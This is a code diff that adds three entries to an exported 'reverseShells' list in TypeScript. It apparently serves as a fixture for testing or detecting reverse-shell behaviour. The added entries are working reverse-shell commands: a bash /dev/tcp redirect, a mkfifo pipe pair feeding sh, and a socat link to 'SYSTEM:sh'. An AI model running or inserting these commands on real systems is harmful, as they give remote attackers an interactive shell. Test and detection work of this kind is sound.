@@ -44,6 +44,27 @@ export const reverseShells: Shell[] = [
     program: /^dash$/,
   },
   {
+    name: 'half socket, half pipe',
+    command: 'bash',
+    args: sh((port) => `exec 3<>/dev/tcp/${host}/${port}; sh -i <&3 2>&1 | cat >&3`),
+    program: /^dash$/,
+  },
+  {
+    name: 'two cats that were handed the socket, and start after the shell',
+    command: 'bash',
+    args: sh(
+      (port, directory) =>
+        `exec 3<>/dev/tcp/${host}/${port}; mkfifo ${directory}/f ${directory}/g; (cat <&3 >${directory}/f)& (cat <${directory}/g >&3)& exec 3>&-; sh <${directory}/f >${directory}/g 2>&1`,
+    ),
+    program: /^dash$/,
+  },
+  {
+    name: 'socat with a shell in between',
+    command: 'socat',
+    args: (port) => [`TCP:${host}:${port}`, 'SYSTEM:sh; true'],
+    program: /^dash$/,
+  },
+  {
     name: 'python with dup2 and a pty',
     command: 'python3',
     args: (port) => [
